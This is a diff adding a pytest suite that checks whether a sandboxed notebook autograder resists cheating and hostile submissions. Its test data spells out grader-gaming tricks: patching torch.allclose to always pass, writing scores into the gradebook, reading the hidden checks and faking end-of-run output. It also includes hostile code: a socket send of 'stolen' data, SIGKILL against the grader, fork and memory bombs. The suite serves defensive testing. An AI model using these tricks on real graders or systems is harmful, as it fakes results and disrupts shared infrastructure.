@@ -1,0 +1,367 @@
+"""Grading you can trust: a cheat corpus and a bad-input corpus, each graded by the real CLI in one batch.
+
+Every cheat is asserted to earn no unearned points (its score equals what its honest code earns: the
+notebook's functions are wrong or absent, and the cheat tries to turn that into points) and to leave the
+gradebook and the batch intact. Every bad input is asserted to get a clear per-student status or message
+while the honest submissions in the same batch keep full marks. Then: resuming after kill -9, parallel
+grading equal to serial, and feedback that does not leak the hidden checks.
+"""
+
+import json
+import os
+import signal
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+
+import nbformat
+import pytest
+
+from autograder import course, demo, sandbox
+from conftest import ROOT, course_env, run_python
+from test_pipeline import graded_cells, read_summary
+
+CHAPTER = "02-qkv-attention"
+FULL = 13.0
+# The honest score of a notebook whose scaled_dot_product_attention misses the scale: softmax (3) and the
+# variance experiment (2) are right; attention (5) and self-attention (3), which calls it, are wrong.
+MISSING_SCALE_SCORE = 5.0
+
+
+def reference_nb():
+    return demo.filled_submission(CHAPTER)
+
+
+def with_cell(nb, grade_id, edit):
+    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+    cell.source = edit(cell.source)
+    return nb
+
+
+def add_cell(nb, source, after=None):
+    """A code cell the learner added (no nbgrader metadata), after the cell `after` (default: at the top)."""
+    cell = nbformat.v4.new_code_cell(source)
+    index = 0
+    if after:
+        index = 1 + next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
+    nb.cells.insert(index, cell)
+    return nb
+
+
+def cheat(source, base="missing_scale", after="imports"):
+    """A wrong notebook (one typical mistake) with a cheating cell added."""
+    return add_cell(demo.filled_submission(CHAPTER, [base]), source, after)
+
+
+def hidden_cell_of(nb, grade_id):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """A TCP server on the host's loopback: a sandboxed notebook must not be able to reach it."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    connections = []
+    stop = threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                connections.append(server.accept())
+            except OSError:
+                pass
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], connections
+    stop.set()
+    server.close()
+
+
+def cheat_corpus(workdir, port):
+    """{student: (notebook or raw text, the score it may earn at most)}."""
+    gradebook = workdir / "gradebook.db"
+    checks_file = ROOT / "autograder" / "checks" / "ch02_qkv_attention.py"
+    corpus = {
+        "honest": (reference_nb(), FULL),
+        "honest-with-warnings": (
+            with_cell(reference_nb(), "stable_softmax", lambda s: "import sys, warnings\n" + s.replace('    """', '    warnings.warn("just a warning")\n    print("debug output", file=sys.stderr)\n    """', 1)),
+            FULL,
+        ),
+        "patch-allclose": (cheat("import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\ntorch.testing.assert_close = lambda *a, **k: None"), MISSING_SCALE_SCORE),
+        "input-transformer": (cheat("get_ipython().input_transformers_cleanup.append(lambda lines: [])"), MISSING_SCALE_SCORE),
+        "write-gradebook": (cheat(
+            "import sqlite3\n"
+            f"for path in ['../../../gradebook.db', {str(gradebook)!r}]:\n"
+            "    try:\n"
+            "        con = sqlite3.connect(path); con.execute('update grade set manual_score = 100'); con.commit()\n"
+            "    except Exception as e:\n"
+            "        print('blocked:', e)\n"
+            f"open({str(gradebook)!r}, 'ab').write(b'x')"), MISSING_SCALE_SCORE),
+        "read-hidden-checks": (cheat(
+            "import glob\n"
+            f"print(open({str(checks_file)!r}).read())\n"
+            f"print(glob.glob({str(ROOT)!r} + '/**', recursive=True))"), MISSING_SCALE_SCORE),
+        "import-course-packages": (cheat(
+            "from solutions.ch02_qkv_attention import scaled_dot_product_attention\n"
+            "from autograder.checks import ch02_qkv_attention"), MISSING_SCALE_SCORE),
+        "import-solutions-in-solution": (
+            with_cell(demo.filled_submission(CHAPTER, ["missing_scale"]), "scaled_dot_product_attention",
+                      lambda s: s + "\nfrom solutions.ch02_qkv_attention import scaled_dot_product_attention\n"),
+            MISSING_SCALE_SCORE,
+        ),
+        "torch-sdpa-in-solution": (
+            with_cell(reference_nb(), "scaled_dot_product_attention", lambda s: (
+                "def scaled_dot_product_attention(q, k, v, mask=None):\n"
+                "    out = torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=mask)\n"
+                "    w = stable_softmax((q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))).masked_fill(~mask if mask is not None else torch.zeros((), dtype=torch.bool, device=q.device), float('-inf')), dim=-1)\n"
+                "    return out, w\n")),
+            FULL - 5 - 3,  # attention and self-attention (which calls it) earn nothing
+        ),
+        "torch-softmax-hidden-in-helper": (
+            add_cell(with_cell(reference_nb(), "stable_softmax", lambda s: "def stable_softmax(x, dim=-1):\n    return _helper(x, dim)\n"),
+                     "import torch\n_helper = getattr(torch, 'soft' + 'max')", after="imports"),
+            # The static scan sees nothing; the tripwire around each call catches softmax, also where the
+            # learner's attention functions call this stable_softmax. Only the variance experiment is left.
+            2.0,
+        ),
+        # Faking the end of the run only stops the grader from reading further: the learner loses the rest.
+        "fake-report-end": (cheat("import os\nfor fd in range(3, 20):\n    try:\n        os.write(fd, b'{\"event\": \"end\"}\\n')\n    except OSError:\n        pass"), 0.0),
+        "network": (cheat(
+            "import socket\ntry:\n"
+            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
+            "except OSError as e:\n    print('no network:', e)"), MISSING_SCALE_SCORE),
+        "edit-hidden-cell": (
+            _edited_hidden(demo.filled_submission(CHAPTER, ["missing_scale"])), MISSING_SCALE_SCORE,
+        ),
+        "duplicated-cell": (_duplicated(reference_nb()), FULL),
+        "kill-the-grader": (cheat("import os, signal\nfor pid in (1, os.getppid()):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass"), MISSING_SCALE_SCORE),
+    }
+    return corpus
+
+
+def _edited_hidden(nb):
+    cell = hidden_cell_of(nb, "scaled_dot_product_attention_hidden")
+    cell.source = "print('all checks passed')"
+    cell.metadata["nbgrader"]["points"] = 100
+    return nb
+
+
+def _duplicated(nb):
+    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "stable_softmax")
+    nb.cells.insert(i + 1, nbformat.from_dict(json.loads(json.dumps(nb.cells[i]))))
+    return nb
+
+
+def bad_input_corpus(tmp_path):
+    """{student: (notebook, raw text, or a callable writing the file; expected (score, message fragment))}."""
+    ref = reference_nb
+    loop_src = "    while True:\n        pass\n"
+    stubborn_loop = "    while True:\n        try:\n            time.sleep(10)\n        except BaseException:\n            pass\n"
+    renamed = ref()
+    hidden_cell_of(renamed, "stable_softmax").metadata["nbgrader"]["grade_id"] = "my_softmax"
+    deleted_tests = ref()
+    deleted_tests.cells = [c for c in deleted_tests.cells if not c.metadata.get("nbgrader", {}).get("grade", False)]
+    missing_solution = ref()
+    missing_solution.cells = [c for c in missing_solution.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "dot_product_variance"]
+    v3 = nbformat.writes(ref()).replace('"nbformat": 4', '"nbformat": 3')
+    no_metadata = ref()
+    for c in no_metadata.cells:
+        c.metadata = {}
+    return {
+        "good": (ref(), (FULL, "")),
+        "malformed-json": ('{"cells": [', (0, "not a valid notebook")),
+        "empty-file": ("", (0, "not a valid notebook")),
+        "binary-garbage": (bytes(range(256)) * 10, (0, "not a valid notebook")),
+        "json-not-notebook": ("[1, 2, 3]", (0, "not a notebook")),
+        "nbformat-3": (v3, (0, "nbformat 3")),
+        "symlink": ("symlink", (0, "symbolic link")),
+        "renamed-cell-id": (renamed, (FULL, "missing")),
+        "no-nbgrader-metadata": (no_metadata, (FULL, "missing")),  # the functions are still defined and checked
+        "deleted-test-cells": (deleted_tests, (FULL, "")),
+        "missing-solution-cell": (missing_solution, (FULL - 2, "not defined")),
+        "kernel-death": (with_cell(ref(), "dot_product_variance", lambda s: "import os\nos._exit(3)\n" + s), (FULL - 2, "exited")),
+        "segfault": (with_cell(ref(), "dot_product_variance", lambda s: "import ctypes\nctypes.string_at(0)\n" + s), (FULL - 2, "SIGSEGV")),
+        "infinite-loop": (with_cell(ref(), "dot_product_variance", lambda s: s.replace('    """', loop_src + '    """', 1) + "\ndot_product_variance(4, 10, None)\n"), (FULL - 2, "time limit")),
+        "loop-catching-interrupts": (with_cell(ref(), "self_attention", lambda s: "import time\n" + s + "\nwhile True:\n    try:\n        time.sleep(10)\n    except BaseException:\n        pass\n"), (FULL - 3, "time limit")),
+        "memory-bomb": (with_cell(ref(), "dot_product_variance", lambda s: "hog = []\nwhile True:\n    hog.append(bytearray(2**26))\n" + s), (FULL - 2, ("MemoryError", "time limit"))),  # which comes first depends on the machine
+        "torch-memory-bomb": (with_cell(ref(), "dot_product_variance", lambda s: "import torch\nhuge = torch.empty(2**40)\n" + s), (FULL - 2, "")),
+        "output-flood": (add_cell(ref(), "for i in range(10**6):\n    print('flood' * 20)", after="self_attention"), (FULL, "")),
+        "fd-flood": (add_cell(ref(), "import os\nfor i in range(10**5):\n    os.write(1, b'x' * 10000)\n    os.write(2, b'y' * 10000)", after="self_attention"), (FULL, "")),
+        "fork-bomb": (add_cell(ref(), "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", after="self_attention"), (FULL, "time limit")),
+        "sys-exit": (with_cell(ref(), "dot_product_variance", lambda s: "raise SystemExit(0)\n" + s), (FULL - 2, "")),
+    }, stubborn_loop
+
+
+def write_submission(root, student, content):
+    path = root / student / CHAPTER / "exercises.ipynb"
+    path.parent.mkdir(parents=True)
+    if isinstance(content, nbformat.NotebookNode):
+        nbformat.write(content, path)
+    elif isinstance(content, bytes):
+        path.write_bytes(content)
+    elif content == "symlink":
+        target = root / "elsewhere.ipynb"
+        nbformat.write(reference_nb(), target)
+        path.symlink_to(target)
+    else:
+        path.write_text(content)
+    return path
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory, listener):
+    """Both corpora in one batch, graded by the CLI with 2 workers and a short cell time limit."""
+    port, connections = listener
+    root = tmp_path_factory.mktemp("submissions")
+    workdir = tmp_path_factory.mktemp("grading")
+    cheats = cheat_corpus(workdir, port)
+    bad, _ = bad_input_corpus(root)
+    for student, (content, _) in {**cheats, **bad}.items():
+        write_submission(root, student, content)
+    start = time.perf_counter()
+    result = run_python("-m", "autograder", "grade", str(root), "--workdir", str(workdir), "--device", "cpu", "--seed", "11",
+                        "--cell-timeout", "8", "--workers", "2", timeout=1500)
+    elapsed = time.perf_counter() - start
+    return dict(workdir=workdir, rows=read_summary(workdir), result=result, cheats=cheats, bad=bad, connections=connections, seconds=elapsed)
+
+
+def score(rows, student):
+    return sum(float(r["score"]) for r in graded_cells(rows, student).values())
+
+
+def messages(rows, student):
+    return " | ".join(r["message"] for r in rows[student].values())
+
+
+def test_the_batch_finishes_and_reports_every_student(batch):
+    result, rows = batch["result"], batch["rows"]
+    assert sandbox.mode() != "none", "these tests need bubblewrap (apt install bubblewrap); `make test` installs it as root"
+    assert result.returncode == 1, f"a batch with ungradable notebooks exits 1:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
+    assert set(rows) == set(batch["cheats"]) | set(batch["bad"]), f"missing from summary.csv: {set(batch['cheats']) | set(batch['bad']) - set(rows)}"
+    for student in rows:
+        assert len(graded_cells(rows, student)) == 4, f"{student}: every graded cell gets a row"
+
+
+@pytest.mark.parametrize("student", [
+    "honest", "honest-with-warnings", "patch-allclose", "input-transformer", "write-gradebook", "read-hidden-checks",
+    "import-course-packages", "import-solutions-in-solution", "torch-sdpa-in-solution", "torch-softmax-hidden-in-helper",
+    "fake-report-end", "network", "edit-hidden-cell", "duplicated-cell", "kill-the-grader",
+])
+def test_cheat_earns_no_unearned_points(batch, student):
+    rows = batch["rows"]
+    _, allowed = batch["cheats"][student]
+    got = score(rows, student)
+    assert got == allowed, f"{student}: scored {got}, expected exactly {allowed}; messages: {messages(rows, student)}"
+
+
+def test_forbidden_shortcuts_say_why(batch):
+    rows = batch["rows"]
+    assert "write it yourself" in rows["torch-sdpa-in-solution"]["scaled_dot_product_attention_hidden"]["message"]
+    assert "imports the course's own" in rows["import-solutions-in-solution"]["scaled_dot_product_attention_hidden"]["message"]
+    assert "torch.softmax" in rows["torch-softmax-hidden-in-helper"]["stable_softmax_hidden"]["message"]
+
+
+def test_cheats_leave_the_gradebook_intact(batch):
+    workdir = batch["workdir"]
+    con = sqlite3.connect(workdir / "gradebook.db")
+    manual = con.execute("select count(*) from grade where manual_score is not null").fetchone()[0]
+    scores = dict(con.execute(
+        "select student.id, sum(grade.auto_score) from grade join submitted_notebook on grade.notebook_id = submitted_notebook.id "
+        "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
+        "join student on submitted_assignment.student_id = student.id group by student.id").fetchall())
+    con.close()
+    assert manual == 0, "a submission wrote manual scores into the gradebook"
+    rows = batch["rows"]
+    for student in rows:
+        assert scores.get(student) == pytest.approx(score(rows, student)), f"{student}: gradebook and summary disagree"
+
+
+def test_no_submission_reached_the_network(batch):
+    assert batch["connections"] == [], "a sandboxed notebook connected to the host's loopback"
+
+
+def test_feedback_does_not_leak_the_hidden_checks(batch):
+    workdir = batch["workdir"]
+    secrets = ["check_scaled_dot_product_attention", "_attention_cases", "SDPA_MISTAKES", "TOLERANCES", "generator(seed"]
+    for path in (workdir / "feedback").rglob("*.html"):
+        text = path.read_text()
+        leaked = [s for s in secrets if s in text]
+        assert not leaked, f"{path} shows {leaked}"
+    text = (workdir / "feedback" / "read-hidden-checks" / CHAPTER / "exercises.html").read_text()
+    assert "No such file" in text or "Errno" in text, "the attempt to read the checks should have failed visibly"
+
+
+@pytest.mark.parametrize("student", [
+    "good", "malformed-json", "empty-file", "binary-garbage", "json-not-notebook", "nbformat-3", "symlink",
+    "renamed-cell-id", "no-nbgrader-metadata", "deleted-test-cells", "missing-solution-cell", "kernel-death", "segfault",
+    "infinite-loop", "loop-catching-interrupts", "memory-bomb", "torch-memory-bomb", "output-flood", "fd-flood", "fork-bomb",
+    "sys-exit",
+])
+def test_bad_input_gets_a_clear_result(batch, student):
+    rows = batch["rows"]
+    _, (expected, fragment) = batch["bad"][student]
+    got = score(rows, student)
+    assert got == expected, f"{student}: scored {got}, expected {expected}; messages: {messages(rows, student)}"
+    fragments = fragment if isinstance(fragment, tuple) else (fragment,)
+    if fragment:
+        assert any(f in messages(rows, student) for f in fragments), f"{student}: no message mentions {fragment!r}: {messages(rows, student)}"
+
+
+def test_sandboxed_processes_are_all_gone(batch):
+    leftover = [line for line in subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout.splitlines()
+                if int(line.split()[0]) >= sandbox.SANDBOX_UID_BASE]
+    assert not leftover, f"processes of sandbox users survive the batch: {leftover}"
+
+
+def _grade_demo(workdir, workers, seed="5"):
+    return run_python("-m", "autograder", "grade", str(demo.DEMO_DIR), "--workdir", str(workdir), "--seed", seed,
+                      "--device", "cpu", "--workers", str(workers))
+
+
+def test_parallel_grading_gives_exactly_the_serial_scores(tmp_path):
+    runs = {}
+    for workers in (1, 2):
+        result = _grade_demo(tmp_path / f"w{workers}", workers)
+        assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
+        rows = read_summary(tmp_path / f"w{workers}")
+        runs[workers] = {(s, c): (r["score"], r["message"]) for s in rows for c, r in graded_cells(rows, s).items()}
+    assert runs[1] == runs[2]
+    assert len(runs[1]) == 4 * len(demo.DEMO_STUDENTS)
+
+
+def test_kill_9_mid_batch_resumes_without_regrading(tmp_path):
+    workdir = tmp_path / "work"
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "autograder", "grade", str(demo.DEMO_DIR), "--workdir", str(workdir), "--seed", "5", "--device", "cpu", "--workers", "1"],
+        cwd=ROOT, env=course_env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
+    )
+    results = workdir / "results"
+    deadline = time.time() + 300
+    while time.time() < deadline and len(list(results.rglob("*.json"))) < 1:
+        time.sleep(0.2)
+    os.killpg(proc.pid, signal.SIGKILL)  # the grader and its workers, at once
+    proc.wait()
+    done_before = {p: p.stat().st_mtime_ns for p in results.rglob("*.json")}
+    assert 1 <= len(done_before) < len(demo.DEMO_STUDENTS), "kill the batch in the middle"
+    time.sleep(1)
+    leftover = subprocess.run(["pgrep", "-f", "runner.py /job"], capture_output=True, text=True).stdout.split()
+    assert not leftover, f"sandboxes outlived the killed grader: {leftover}"
+
+    again = _grade_demo(workdir, 1)
+    assert again.returncode == 0, again.stdout[-2000:] + again.stderr[-2000:]
+    assert f"Resuming: {len(done_before)} notebook(s) already graded" in again.stdout
+    assert all(p.stat().st_mtime_ns == t for p, t in done_before.items()), "a finished result was graded again"
+    fresh = _grade_demo(tmp_path / "fresh", 2)
+    resumed, clean = read_summary(workdir), read_summary(tmp_path / "fresh")
+    assert {s: score(resumed, s) for s in resumed} == {s: score(clean, s) for s in clean}
+    assert {s: score(resumed, s) for s in resumed} == {"alice": 13.0, "bob": 0.0, "carol": 5.0, "dave": 5.0}
+    grades = (workdir / "grades.csv").read_text()
+    assert all(student in grades for student in demo.DEMO_STUDENTS)
+    assert fresh.returncode == 0
